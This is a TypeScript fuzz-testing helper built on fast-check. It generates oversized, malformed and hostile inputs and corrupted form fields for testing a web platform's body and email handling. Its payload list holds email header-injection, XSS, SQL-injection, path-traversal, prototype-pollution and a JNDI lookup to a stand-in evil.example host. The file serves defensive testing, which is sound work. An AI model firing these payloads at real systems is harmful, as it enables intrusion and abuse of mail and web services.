import * as fc from "fast-check";
import { BODY_MAX_BYTES } from "#platform/http/read-body.ts";

/** This part again and again, to just below what a body may have. */
export const long = (part: string, characters = BODY_MAX_BYTES - 2_000) =>
	part.repeat(Math.ceil(characters / part.length)).slice(0, characters);

/** Texts that break other systems, or take a careless pattern forever. */
export const nastyText = fc.oneof(
	fc.string({ unit: "binary" }),
	fc.constantFrom(
		"\0",
		"\ud800",
		"\udfff\ud800",
		"\ufeff",
		"\u202e",
		"a\r\nBcc: eve@evil.example",
		"a\nSubject: x",
		"%0d%0aBcc: eve@evil.example",
		"<script>alert(1)</script>",
		`"><img src=x onerror=alert(1)>`,
		"{{constructor.constructor('x')()}}",
		`\${jndi:ldap://evil.example/a}`,
		"'; drop table outbox; --",
		"' or '1'='1",
		"../../../../etc/passwd",
		"__proto__",
		"a@b.c, d@e.f",
		'"a b"@example.com',
		"a@[127.0.0.1]",
		"ada@example.com\0",
		"İ@example.com",
	),
	fc
		.constantFrom("a", " ", "\t\n", "a@", "a.", "a-", "@", "1 ", "\u0301", "\u00a0", "<", "&amp;", "🪙", "\\", '"')
		.map((part) => long(part)),
	fc.constantFrom("a", "a.", "a-").map((part) => `${long(part, 30_000)}@${long(part, 30_000)}`),
);

const nastyValue = fc.oneof(
	nastyText,
	fc.jsonValue({ maxDepth: 3 }),
	fc.constantFrom(null, true, [], {}, -0, 1e308, -1e308, Number.MAX_SAFE_INTEGER + 2, 5e-324, [[]], { toString: 1 }),
	fc.double(),
);

/** The fields of a valid post, some of them corrupted, missing, or beside unknown ones. */
export function spoilt(valid: Record<string, unknown>): fc.Arbitrary<Record<string, unknown>> {
	const names = Object.keys(valid);
	const name = fc.oneof(
		fc.constantFrom(...names),
		fc.constantFrom("__proto__", "constructor", "toString", "action", ""),
	);
	const inside = names.flatMap((key) => {
		const value = valid[key];
		return typeof value === "object" && value !== null
			? [spoilt({ ...value }).map((part) => [key, part] as const)]
			: [];
	});
	const changes = fc.array(fc.oneof(fc.tuple(name, nastyValue), ...inside), { minLength: 1, maxLength: 3 });
	return fc.tuple(changes, fc.subarray(names, { minLength: Math.max(0, names.length - 2) })).map(([spoils, kept]) => ({
		...Object.fromEntries(kept.map((key) => [key, valid[key]])),
		...Object.fromEntries(spoils),
	}));
}

/** A value as a form or a query would have it. */
const asText = (value: unknown): string => (typeof value === "string" ? value : (JSON.stringify(value) ?? ""));

/** These fields as a form posts them, or a query has them. */
export const asForm = (fields: Record<string, unknown>): string =>
	`${new URLSearchParams(Object.entries(fields).map(([name, value]) => [name, asText(value)]))}`;
